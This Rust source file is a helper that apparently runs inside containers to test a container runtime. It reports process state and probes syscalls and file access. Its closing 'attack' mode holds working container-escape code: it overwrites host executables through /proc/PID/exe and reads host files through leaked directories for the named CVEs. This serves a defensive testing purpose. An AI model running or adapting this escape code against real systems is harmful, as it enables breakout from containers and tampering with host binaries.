//! The program that runs inside the containers: it reports what it sees as one JSON object, and does the few things
//! that busybox cannot do or cannot report by errno.
//!
//! It is static, because the containers' root file system holds nothing but itself and busybox.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write as _;
use std::mem::size_of;
use std::os::unix::ffi::OsStringExt as _;
use std::os::unix::fs::FileTypeExt as _;
use std::process::ExitCode;
use std::time::Duration;

use nix::sys::signal::SigSet;
use rustix::process::{Resource, getrlimit};
use rustix::time::{ClockId, clock_gettime};
use serde_json::{Map, Value, json};

/// The names of the capabilities in the order of their numbers (capabilities(7)).
const CAPABILITIES: [&str; 41] = [
    "CHOWN",
    "DAC_OVERRIDE",
    "DAC_READ_SEARCH",
    "FOWNER",
    "FSETID",
    "KILL",
    "SETGID",
    "SETUID",
    "SETPCAP",
    "LINUX_IMMUTABLE",
    "NET_BIND_SERVICE",
    "NET_BROADCAST",
    "NET_ADMIN",
    "NET_RAW",
    "IPC_LOCK",
    "IPC_OWNER",
    "SYS_MODULE",
    "SYS_RAWIO",
    "SYS_CHROOT",
    "SYS_PTRACE",
    "SYS_PACCT",
    "SYS_ADMIN",
    "SYS_BOOT",
    "SYS_NICE",
    "SYS_RESOURCE",
    "SYS_TIME",
    "SYS_TTY_CONFIG",
    "MKNOD",
    "LEASE",
    "AUDIT_WRITE",
    "AUDIT_CONTROL",
    "SETFCAP",
    "MAC_OVERRIDE",
    "MAC_ADMIN",
    "SYSLOG",
    "WAKE_ALARM",
    "BLOCK_SUSPEND",
    "AUDIT_READ",
    "PERFMON",
    "BPF",
    "CHECKPOINT_RESTORE",
];

const USAGE: &str = "usage: guest report | signals | fill MIB | try OP PATH ... | call NR[:ARG...] ... | hook NAME LOG CODE | notify | attack MARKER | talk FILE";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args_os().skip(1).map(|a| a.to_string_lossy().into_owned()).collect();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args[..] {
        ["report", ..] => println!("{}", report()),
        ["signals"] => return signals(),
        ["fill", mib] => fill(mib.parse().expect("MIB is a number")),
        ["try", ref pairs @ ..] if pairs.len() % 2 == 0 => println!("{}", try_all(pairs)),
        ["call", ref calls @ ..] => println!("{}", calls.iter().map(|c| call(c)).collect::<Value>()),
        ["hook", name, log, code] => {
            hook(name, log);
            return ExitCode::from(code.parse::<u8>().expect("CODE is a number"));
        }
        ["notify"] => notify(),
        ["talk", file] => talk(file),
        ["attack", marker] => println!("{}", attack(marker)),
        _ => {
            eprintln!("{USAGE}");
            return ExitCode::from(64);
        }
    }
    ExitCode::SUCCESS
}

/// Sends a line every 50 ms over a TCP connection with itself, and writes what arrives to FILE. When the connection ends, FILE.gone
/// has the reason. (busybox' nc ends at an interrupted poll(2), which is what criu leaves behind.)
fn talk(file: &str) {
    let end = |e: std::io::Error| fs::write(format!("{file}.gone"), e.to_string()).expect("FILE.gone");
    if let Err(e) = keep_talking(file) {
        end(e);
    }
}

fn keep_talking(file: &str) -> std::io::Result<()> {
    use std::io::Read as _;
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let mut client = std::net::TcpStream::connect(listener.local_addr()?)?;
    let (mut server, _) = listener.accept()?;
    let mut arrived = fs::File::create(file)?;
    loop {
        let mut line = [0; 5];
        server.write_all(b"line\n")?;
        client.read_exact(&mut line)?;
        arrived.write_all(&line)?;
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Everything about this process that a container's configuration can change. What cannot be read is null or empty:
/// some tests run without /proc.
fn report() -> Value {
    let status = status();
    let field = |name: &str| status.get(name).map(String::as_str).unwrap_or_default();
    let uname = rustix::system::uname();
    json!({
        "argv": lossy(std::env::args_os()),
        "env": lossy(std::env::vars_os().map(|(mut k, v)| { k.push("="); k.push(v); k })),
        "cwd": std::env::current_dir().ok(),
        "pid": std::process::id(),
        // By nix: each is 0 when it stands outside of this process's pid namespace, which rustix's type cannot hold.
        "ppid": nix::unistd::getppid().as_raw(),
        "pgid": nix::unistd::getpgrp().as_raw(),
        "sid": nix::unistd::getsid(None).ok().map(nix::unistd::Pid::as_raw),
        "uids": numbers(field("Uid")),
        "gids": numbers(field("Gid")),
        "groups": numbers(field("Groups")),
        "caps": {
            "inheritable": capabilities(field("CapInh")),
            "permitted": capabilities(field("CapPrm")),
            "effective": capabilities(field("CapEff")),
            "bounding": capabilities(field("CapBnd")),
            "ambient": capabilities(field("CapAmb")),
        },
        "no_new_privs": field("NoNewPrivs") == "1",
        "seccomp": field("Seccomp").parse::<u32>().ok(),
        "umask": u32::from_str_radix(field("Umask"), 8).ok(),
        "sig_blocked": signal_set(field("SigBlk")),
        "sig_ignored": signal_set(field("SigIgn")),
        "rlimits": rlimits(),
        "oom_score_adj": read("/proc/self/oom_score_adj").trim().parse::<i32>().ok(),
        "scheduler": scheduler(),
        "ioprio": ioprio(),
        "affinity": field("Cpus_allowed_list"),
        "memory_policy": memory_policy(),
        "personality": u32::from_str_radix(read("/proc/self/personality").trim(), 16).ok(),
        "namespaces": links("/proc/self/ns"),
        "mounts": mounts(),
        "fds": fds(),
        "hostname": uname.nodename().to_string_lossy(),
        "domainname": uname.domainname().to_string_lossy(),
        "machine": uname.machine().to_string_lossy(),
        "cgroup": read("/proc/self/cgroup").lines().collect::<Vec<_>>(),
        "winsize": rustix::termios::tcgetwinsize(std::io::stdin()).ok().map(|w| [w.ws_row, w.ws_col]),
        "monotonic": clock_gettime(ClockId::Monotonic).tv_sec,
        "boottime": clock_gettime(ClockId::Boottime).tv_sec,
        "session_keyring": session_keyring(),
    })
}

fn lossy(items: impl Iterator<Item = std::ffi::OsString>) -> Vec<String> {
    items.map(|i| String::from_utf8_lossy(&i.into_vec()).into_owned()).collect()
}

fn read(path: &str) -> String {
    fs::read(path).map(|b| String::from_utf8_lossy(&b).into_owned()).unwrap_or_default()
}

/// The fields of /proc/self/status by name (proc(5)).
fn status() -> BTreeMap<String, String> {
    let text = read("/proc/self/status");
    text.lines().filter_map(|l| l.split_once(':')).map(|(k, v)| (k.into(), v.trim().into())).collect()
}

fn numbers(text: &str) -> Vec<u32> {
    text.split_whitespace().filter_map(|n| n.parse().ok()).collect()
}

fn bits(hex: &str) -> impl Iterator<Item = usize> + use<> {
    let mask = u64::from_str_radix(hex, 16).unwrap_or_default();
    (0..64).filter(move |bit| mask & (1 << bit) != 0)
}

fn capabilities(hex: &str) -> Vec<String> {
    bits(hex).map(|bit| CAPABILITIES.get(bit).map_or(bit.to_string(), |name| format!("CAP_{name}"))).collect()
}

fn signal_set(hex: &str) -> Vec<usize> {
    bits(hex).map(|bit| bit + 1).collect()
}

/// Soft and hard limit of each resource; null is unlimited.
fn rlimits() -> Value {
    let all = [
        ("RLIMIT_AS", Resource::As),
        ("RLIMIT_CORE", Resource::Core),
        ("RLIMIT_CPU", Resource::Cpu),
        ("RLIMIT_DATA", Resource::Data),
        ("RLIMIT_FSIZE", Resource::Fsize),
        ("RLIMIT_LOCKS", Resource::Locks),
        ("RLIMIT_MEMLOCK", Resource::Memlock),
        ("RLIMIT_MSGQUEUE", Resource::Msgqueue),
        ("RLIMIT_NICE", Resource::Nice),
        ("RLIMIT_NOFILE", Resource::Nofile),
        ("RLIMIT_NPROC", Resource::Nproc),
        ("RLIMIT_RSS", Resource::Rss),
        ("RLIMIT_RTPRIO", Resource::Rtprio),
        ("RLIMIT_RTTIME", Resource::Rttime),
        ("RLIMIT_SIGPENDING", Resource::Sigpending),
        ("RLIMIT_STACK", Resource::Stack),
    ];
    let limit = |r| {
        let l = getrlimit(r);
        json!([l.current, l.maximum])
    };
    Value::Object(all.into_iter().map(|(name, r)| (name.into(), limit(r))).collect())
}

/// `struct sched_attr` of sched_setattr(2), version 0: neither libc crate nor nix has it on musl.
#[repr(C)]
#[derive(Default)]
struct SchedAttr {
    size: u32,
    policy: u32,
    flags: u64,
    nice: i32,
    priority: u32,
    runtime: u64,
    deadline: u64,
    period: u64,
}

fn scheduler() -> Value {
    let mut attr = SchedAttr::default();
    // SAFETY: sched_getattr(2) writes at most `size` bytes to the struct, which is that long and owned by this frame.
    let failed = unsafe { libc::syscall(libc::SYS_sched_getattr, 0, &raw mut attr, size_of::<SchedAttr>(), 0) };
    if failed != 0 {
        return Value::Null;
    }
    json!({
        "policy": attr.policy, "flags": attr.flags, "nice": attr.nice, "priority": attr.priority,
        "runtime": attr.runtime, "deadline": attr.deadline, "period": attr.period,
    })
}

/// Class and level of ioprio_get(2), whose value holds the class above bit 13.
fn ioprio() -> Value {
    const IOPRIO_WHO_PROCESS: i32 = 1;
    // SAFETY: ioprio_get(2) takes two integers and touches no memory of this process.
    let value = unsafe { libc::syscall(libc::SYS_ioprio_get, IOPRIO_WHO_PROCESS, 0) };
    if value < 0 { Value::Null } else { json!([value >> 13, value & 0x1fff]) }
}

/// Mode with flags, and the nodes, of get_mempolicy(2).
fn memory_policy() -> Value {
    let (mut mode, mut mask) = (0i32, [0u64; 16]);
    let at = mask.as_mut_ptr();
    let none = std::ptr::null::<u8>();
    // SAFETY: get_mempolicy(2) writes the mode and as many bits as the mask has, both owned by this frame.
    let failed = unsafe { libc::syscall(libc::SYS_get_mempolicy, &raw mut mode, at, 1024, none, 0) };
    if failed != 0 {
        return Value::Null;
    }
    let nodes: Vec<usize> = (0..1024).filter(|n| mask[n / 64] & (1 << (n % 64)) != 0).collect();
    json!({ "mode": mode, "nodes": nodes })
}

/// `type;uid;gid;mode;name` of the session keyring (keyctl(2), KEYCTL_DESCRIBE).
fn session_keyring() -> Option<String> {
    const KEYCTL_DESCRIBE: i32 = 6;
    const KEY_SPEC_SESSION_KEYRING: i32 = -3;
    let mut text = [0u8; 256];
    let at = text.as_mut_ptr();
    // SAFETY: KEYCTL_DESCRIBE writes at most the length given to the buffer, which is owned by this frame.
    let len = unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, at, text.len()) };
    let len = usize::try_from(len).ok()?.checked_sub(1)?;
    Some(String::from_utf8_lossy(text.get(..len)?).into_owned())
}

fn links(dir: &str) -> BTreeMap<String, String> {
    let entries = fs::read_dir(dir).into_iter().flatten().flatten();
    let link = |e: &fs::DirEntry| fs::read_link(e.path()).map(|l| l.to_string_lossy().into_owned()).ok();
    entries.filter_map(|e| Some((e.file_name().to_string_lossy().into_owned(), link(&e)?))).collect()
}

/// The open files of this process, without the one that lists them.
fn fds() -> BTreeMap<String, String> {
    // The pid of this /proc, which before the pivot is the host's and not our namespace's.
    let own = fs::read_link("/proc/self").unwrap_or_default();
    let own = format!("/proc/{}/fd", own.display());
    links("/proc/self/fd").into_iter().filter(|(_, target)| *target != own).collect()
}

/// /proc/self/mountinfo (proc_pid_mountinfo(5)) in its own order.
fn mounts() -> Vec<Value> {
    read("/proc/self/mountinfo").lines().filter_map(mount).collect()
}

fn mount(line: &str) -> Option<Value> {
    let (left, right) = line.split_once(" - ")?;
    let left: Vec<&str> = left.split(' ').collect();
    let right: Vec<&str> = right.split(' ').collect();
    Some(json!({
        "root": left.get(3)?, "target": left.get(4)?, "options": left.get(5)?.split(',').collect::<Vec<_>>(),
        "propagation": left.get(6..)?, "type": right.first()?, "source": right.get(1)?,
        "super": right.get(2)?.split(',').collect::<Vec<_>>(),
    }))
}

/// Prints `ready`, then the number of each signal that arrives; SIGTERM ends it.
fn signals() -> ExitCode {
    let all = SigSet::all();
    all.thread_block().expect("sigprocmask");
    say("ready");
    loop {
        let signal = all.wait().expect("sigwait");
        say(&(signal as i32).to_string());
        if signal == nix::sys::signal::Signal::SIGTERM {
            return ExitCode::from(17);
        }
    }
}

fn say(line: &str) {
    let mut out = std::io::stdout();
    writeln!(out, "{line}").and_then(|()| out.flush()).expect("write to stdout");
}

/// Appends one line of JSON to `log`: who was called, with what on standard input, and the report.
fn hook(name: &str, log: &str) {
    let state: Value = serde_json::from_reader(std::io::stdin()).expect("state JSON on standard input");
    let line = json!({ "name": name, "state": state, "report": report() });
    let mut file = fs::File::options().append(true).create(true).open(log).expect("log of the hooks");
    file.write_all(format!("{line}\n").as_bytes()).expect("write to the log of the hooks");
}

/// Tells the service manager that it is ready (sd_notify(3)), and stays.
fn notify() {
    let path = std::env::var("NOTIFY_SOCKET").expect("NOTIFY_SOCKET");
    let socket = std::os::unix::net::UnixDatagram::unbound().expect("socket");
    socket.send_to(b"READY=1\n", path).expect("READY=1");
    std::thread::sleep(Duration::from_secs(3600));
}

/// Touches MIB mebibytes of memory, prints `filled`, and holds them.
fn fill(mib: usize) {
    let mut hold = vec![0u8; mib << 20];
    for page in hold.chunks_mut(4096) {
        page[0] = 1;
    }
    say("filled");
    std::thread::sleep(Duration::from_secs(3600));
    drop(hold);
}

/// Does each operation on the path that follows it: 0, or the errno as a name like `EROFS`, in the same order.
fn try_all(pairs: &[&str]) -> Value {
    pairs.chunks(2).map(|p| attempt(p[0], p[1]).map_or_else(errno_name, Value::from)).collect()
}

/// Makes the system call `NR:ARG:ARG...`, or with `i386:` in front that of a 32-bit program: what it returns, or the errno's name.
fn call(text: &str) -> Value {
    let (i386, text) = text.strip_prefix("i386:").map_or((false, text), |rest| (true, rest));
    let mut words = text.split(':').map(|w| w.parse::<i64>().expect("a number"));
    let number = words.next().expect("NR");
    let args: [i64; 6] = std::array::from_fn(|_| words.next().unwrap_or(0));
    let result = if i386 { int80(number, args) } else { syscall(number, args) };
    match result {
        -4095..=-1 => errno_name(std::io::Error::from_raw_os_error(-result as i32)),
        result => json!(result),
    }
}

fn syscall(number: i64, a: [i64; 6]) -> i64 {
    // SAFETY: what the calls of the tests are given is numbers, and pointers that are null. syscall(2)
    let result = unsafe { libc::syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]) };
    if result == -1 { -i64::from(nix::errno::Errno::last_raw()) } else { result }
}

#[cfg(target_arch = "x86_64")]
fn int80(number: i64, a: [i64; 6]) -> i64 {
    let mut result = number as i32;
    // SAFETY: as above; the kernel's 32-bit entry keeps all registers but eax, and r8 to r11. rbx is put back: the compiler has it.
    unsafe {
        std::arch::asm!(
            "xchg rbx, {first}", "int 0x80", "xchg rbx, {first}",
            first = inout(reg) a[0] => _, inlateout("eax") result, in("ecx") a[1] as i32, in("edx") a[2] as i32,
            in("esi") a[3] as i32, in("edi") a[4] as i32,
            lateout("r8") _, lateout("r9") _, lateout("r10") _, lateout("r11") _,
        );
    }
    i64::from(result)
}

#[cfg(not(target_arch = "x86_64"))]
fn int80(_: i64, _: [i64; 6]) -> i64 {
    -i64::from(libc::ENOSYS)
}

fn attempt(op: &str, path: &str) -> std::io::Result<Value> {
    let done = |()| json!(0);
    match op {
        "read" => {
            let mut first = [0u8; 1];
            std::io::Read::read(&mut fs::File::open(path)?, &mut first).map(|_| json!(0))
        }
        "content" => fs::read(path).map(|b| json!(String::from_utf8_lossy(&b))),
        "write" => fs::OpenOptions::new().write(true).open(path).map(|_| json!(0)),
        "put" => fs::OpenOptions::new().write(true).open(path)?.write_all(b"x").map(done),
        "create" => fs::OpenOptions::new().write(true).create(true).truncate(false).open(path).map(|_| json!(0)),
        "mkdir" => fs::create_dir(path).map(done),
        "unlink" => fs::remove_file(path).map(done),
        "list" => Ok(json!(fs::read_dir(path)?.flatten().count())),
        "link" => fs::read_link(path).map(|l| json!(l)),
        "exec" => std::process::Command::new(path).status().map(|_| json!(0)),
        "chroot" => std::os::unix::fs::chroot(path).map(done),
        "node" => node(path),
        _ => panic!("{USAGE}\nOP: read content write put create mkdir unlink list link exec chroot node"),
    }
}

/// Kind, numbers, mode and owner of a file, without following a link.
fn node(path: &str) -> std::io::Result<Value> {
    use std::os::unix::fs::MetadataExt as _;
    let meta = fs::symlink_metadata(path)?;
    let kind = meta.file_type();
    let kind = match () {
        () if kind.is_char_device() => "c",
        () if kind.is_block_device() => "b",
        () if kind.is_fifo() => "p",
        () if kind.is_symlink() => "l",
        () if kind.is_dir() => "d",
        () => "f",
    };
    let (major, minor) = (nix::libc::major(meta.rdev()), nix::libc::minor(meta.rdev()));
    Ok(json!({
        "kind": kind, "major": major, "minor": minor, "mode": meta.mode() & 0o7777, "uid": meta.uid(),
        "gid": meta.gid(), "len": meta.len(),
    }))
}

fn errno_name(error: std::io::Error) -> Value {
    let errno = nix::errno::Errno::from_raw(error.raw_os_error().unwrap_or_default());
    json!(format!("{errno:?}"))
}

/// Until the file `/stop` appears, attacks every process it can see by way of /proc: the executable, for writing
/// (CVE-2019-5736), and the directories it holds, for reading the host's file `marker` (CVE-2016-9962, CVE-2024-21626).
/// Returns what it reached.
fn attack(marker: &str) -> Value {
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let (mut exes, mut files) = (Map::new(), Map::new());
    say("attacking");
    while !fs::exists("/stop").unwrap_or(true) {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let process = entry.path();
            if !entry.file_name().to_string_lossy().starts_with(|c: char| c.is_ascii_digit()) {
                continue;
            }
            read_through(&process, marker, &mut files);
            let Ok(target) = fs::read_link(process.join("exe")) else { continue };
            let Ok(held) = fs::File::open(process.join("exe")) else { continue };
            let name = target.to_string_lossy().into_owned();
            if target != own && !target.ends_with("busybox") && !exes.contains_key(&name) {
                exes.insert(name, overwrite(&held));
            }
        }
    }
    json!({ "exes": exes, "files": files })
}

/// Reads `marker` through whatever directory the process has open or stands in.
fn read_through(process: &std::path::Path, marker: &str, found: &mut Map<String, Value>) {
    let fds = fs::read_dir(process.join("fd")).into_iter().flatten().flatten().map(|e| e.path());
    for dir in fds.chain([process.join("cwd"), process.join("root")]) {
        for way in ["", "../../../../../../../.."] {
            let path = dir.join(way).join(marker.trim_start_matches('/'));
            if fs::read(&path).is_ok() {
                found.insert(path.to_string_lossy().into_owned(), json!(fs::read_link(&dir).ok()));
            }
        }
    }
}

/// Tries all there is to make the mount of `held` writable, or to get another one of its file; what comes of it shows when it is written.
fn take_off_read_only(held: &fs::File, path: &str) {
    use nix::mount::{MsFlags, mount};
    use std::os::fd::AsRawFd as _;
    /// `struct mount_attr` of mount_setattr(2): `attr_clr` is `MOUNT_ATTR_RDONLY`
    const CLEAR: [u64; 4] = [0, 1, 0, 0];
    let fd = held.as_raw_fd();
    // SAFETY: the path is a literal and the struct is of the size that is given. mount_setattr(2)
    unsafe { libc::syscall(libc::SYS_mount_setattr, fd, c"".as_ptr(), libc::AT_EMPTY_PATH, CLEAR.as_ptr(), 32) };
    let _ = mount(None::<&str>, path, None::<&str>, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, None::<&str>);
    let place = "/bound";
    let bound = fs::File::create(place)
        .and_then(|_| Ok(mount(Some(path), place, None::<&str>, MsFlags::MS_BIND, None::<&str>)?));
    if bound.is_ok() {
        let _ = mount(None::<&str>, place, None::<&str>, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, None::<&str>);
        let _ = fs::write(place, "overwritten");
    }
}

/// Tries to write through `held` for as long as its file is busy (ETXTBSY), at most a third of a second.
fn overwrite(held: &fs::File) -> Value {
    use std::os::fd::AsRawFd as _;
    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
    take_off_read_only(held, &path);
    for _ in 0..300 {
        match fs::OpenOptions::new().write(true).open(&path) {
            Ok(mut file) => return file.write_all(b"overwritten").map_or_else(errno_name, |()| json!("WRITTEN")),
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => std::thread::sleep(Duration::from_millis(1)),
            Err(e) => return errno_name(e),
        }
    }
    json!("ETXTBSY")
}
